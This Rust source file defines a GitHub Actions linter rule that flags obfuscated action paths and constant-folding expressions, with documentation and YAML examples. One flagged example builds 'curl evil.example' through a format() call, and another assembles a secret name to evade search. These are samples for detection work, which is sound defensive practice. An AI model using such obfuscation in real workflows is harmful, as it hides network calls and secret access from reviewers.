use policy_core::document::Ref;
use policy_core::document::edit::Edit;
use policy_core::model::github::expression::{ExprId, ExprKind, Expression, Value, evaluate};
use policy_core::model::github::{ActionReference, Job, Remote, Step};
use policy_core::read::Read;
use policy_core::rule::{
    Check, Confidence, Cx, Meta, Out, Pillar, Place, Platform, ProposedFix, Reads, Rule, RuleFinding, Safety, Severity, Status,
};
use policy_core::unit::Site;

pub(crate) static RULE: Rule = Rule {
    id: "obfuscated-reference",
    meta: Meta {
        title: "something is written so that it is hard to search for",
        pillar: Pillar::Visibility,
        platforms: &[Platform::Github],
        severity: Severity::Low,
        confidence: Confidence::High,
        status: Status::Stable,
        since: "2026-11",
        fix: Some(Safety::Safe),
        maps: &["CICD-SEC-3", "CICD-SEC-10"],
        aliases: &["zizmor/obfuscation"],
    },
    reads: Reads::OwnFile,
    checks: &[Check::Job(check_job), Check::Step(check_step), Check::Expression(check_expression)],
    docs: crate::docs(DOCS),
};

fn check_step<'u>(_: &Cx<'u>, step: &'u Step<'u>, out: &mut Out<'u>) {
    step.remote().into_iter().for_each(|(node, remote)| check_path(node, remote, out));
}

fn check_job<'u>(_: &Cx<'u>, job: &'u Job<'u>, out: &mut Out<'u>) {
    if let Read::Is((node, ActionReference::Repository(remote))) = job.uses() {
        check_path(node, remote, out);
    }
}

fn check_path<'u>(node: Ref<'u>, remote: Remote<'u>, out: &mut Out<'u>) {
    let (name, slug) = (remote.name(), remote.slug());
    let Some(path) = name.get(slug.len()..).and_then(|rest| rest.strip_prefix('/')) else { return };
    let Some(odd) = path.split('/').find(|part| matches!(*part, "" | "." | "..")) else { return };
    let what = if odd.is_empty() { "a part of its path is empty".to_owned() } else { format!("its path goes through `{odd}`") };
    let finding = RuleFinding::new(
        Place::text(node, slug.len()..name.len(), "not the plain path"),
        format!("`{name}` is not written as others write it: {what}"),
        "write the plain path, so that searches, lists of allowed actions and reviews see it",
        name,
    );
    let fix = plain(path).map(|plain| ProposedFix {
        title: "write the plain path".to_owned(),
        safety: Safety::Safe,
        edits: vec![Edit::Splice { scalar: node.id(), decoded: slug.len()..name.len(), text: plain }],
    });
    out.found(finding.rated(Severity::Low, Confidence::High).fixed(fix));
}

// With its `/` in front; none for a path that leaves the repository.
fn plain(path: &str) -> Option<String> {
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => drop(parts.pop()?),
            name => parts.push(name),
        }
    }
    Some(parts.iter().flat_map(|part| ["/", *part]).collect())
}

fn check_expression<'u>(_: &Cx<'u>, site: &'u Site<'u>, out: &mut Out<'u>) {
    let Ok(expression) = &site.expression else { return };
    // Conditions that never hold are how a job is switched off.
    if matches!(expression.kind(expression.root()), ExprKind::Literal | ExprKind::Text | ExprKind::Context)
        || site.scalar.key().and_then(Ref::text) == Some("if")
    {
        return;
    }
    let Some((id, fact)) = find(expression) else { return };
    let span = expression.span(id);
    let name = match expression.kind(id) {
        ExprKind::Call => format!("{}(…)", expression.name(id)),
        _ => "${{ … }}".to_owned(),
    };
    let finding = RuleFinding::new(
        Place::text(site.scalar, site.start + span.start..site.start + span.end, "can be written plainly"),
        format!("`{name}` {fact}"),
        "write what it comes to in its place",
        name,
    );
    out.found(finding.rated(Severity::Low, Confidence::High));
}

const SAME: &str = "comes to the same text in every run";

// The first part that says nothing more than what it comes to.
fn find(expression: &Expression<'_>) -> Option<(ExprId, &'static str)> {
    let root = expression.root();
    if is_constant(expression, root) { Some((root, SAME)) } else { within(expression, root) }
}

// No part is worked out twice, as its text may be long. The parser bounds the depth.
fn within(expression: &Expression<'_>, id: ExprId) -> Option<(ExprId, &'static str)> {
    let children = expression.children(id);
    if let [only] = children
        && is_call(expression, id, &["fromJSON"])
        && is_call(expression, *only, &["toJSON"])
    {
        return Some((id, "gives back what it is given: it writes JSON and reads it again"));
    }
    let plain = expression.kind(id) == ExprKind::Call && !is_call(expression, id, &["fromJSON", "toJSON"]);
    if plain && !has_context(expression, id) {
        return is_constant(expression, id).then_some((id, SAME));
    }
    children.iter().find_map(|child| within(expression, *child))
}

fn has_context(expression: &Expression<'_>, id: ExprId) -> bool {
    expression.kind(id) == ExprKind::Context || expression.children(id).iter().any(|child| has_context(expression, *child))
}

fn is_call(expression: &Expression<'_>, id: ExprId, names: &[&str]) -> bool {
    expression.kind(id) == ExprKind::Call && names.iter().any(|name| name.eq_ignore_ascii_case(expression.name(id)))
}

// A list or an object, as `fromJSON('["a"]')` gives it, cannot be written in another way.
fn is_constant(expression: &Expression<'_>, id: ExprId) -> bool {
    match evaluate(expression, id, &|_| None) {
        Some(Value::Text(text)) => !text.contains("{{"),
        Some(value) => value.is_primitive(),
        None => false,
    }
}

const DOCS: &str = r#"
GitHub takes `some-org/action/./sub//dir` for `some-org/action/sub/dir`, and `${{ format('{0}', 'x') }}` for `x`. People who read
a change, and tools that look for an action or a secret by its name, do not. There is no honest need for it, and who wants to get
something past them has one.

**Mend it:** write what it comes to. The fix does so for paths.

**It does not see:** names that are put together when the workflow runs, such as `secrets[matrix.name]`. Conditions (`if:`) are
left out, since `if: ${{ false && … }}` is how jobs are switched off; so are literals alone (`${{ true }}`), lists and objects
(`fromJSON('["a", "b"]')`), and `${{ '${{' }}`, which is how these marks are written as text.

```yaml bad
on: push
jobs:
  call:
    uses: some-org/workflows/.github/./workflows/build.yml@8f152de45cc393bb48ce5d89d36b731f54556e65 # <-
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: some-org/action//sub/@8f152de45cc393bb48ce5d89d36b731f54556e65 # <-
      - uses: some-org/action/other/../sub@8f152de45cc393bb48ce5d89d36b731f54556e65 # <-
```

```yaml fixed
on: push
jobs:
  call:
    uses: some-org/workflows/.github/workflows/build.yml@8f152de45cc393bb48ce5d89d36b731f54556e65
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: some-org/action/sub@8f152de45cc393bb48ce5d89d36b731f54556e65
      - uses: some-org/action/sub@8f152de45cc393bb48ce5d89d36b731f54556e65
```

```yaml bad
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: ${{ format('cu{0}', 'rl evil.example') }} # <-
      - run: echo ${{ fromJSON(toJSON(github.ref)) }} # <-
        env:
          TOKEN: ${{ secrets[format('DEPLOY_{0}', 'KEY')] }} # <-
```

```yaml good
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: some-org/action/sub@8f152de45cc393bb48ce5d89d36b731f54556e65
      - uses: ./.github/actions/build/
      - uses: ./
```

```yaml good
on: push
jobs:
  build:
    if: ${{ false && github.ref == 'refs/heads/main' }}
    runs-on: ${{ fromJSON('["self-hosted", "linux"]') }}
    continue-on-error: ${{ true }}
    steps:
      - run: echo '${{ format('{0}', '${{') }} x }}' ${{ '${{' }}
```

```yaml good
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    env:
      NAME: ${{ format('build-{0}', github.run_id) }}
      LIST: ${{ contains(fromJSON('["a", "b"]'), github.ref_name) }}
      ALL: ${{ fromJSON(needs.plan.outputs.all).first }}
    steps:
      - run: make
```
"#;
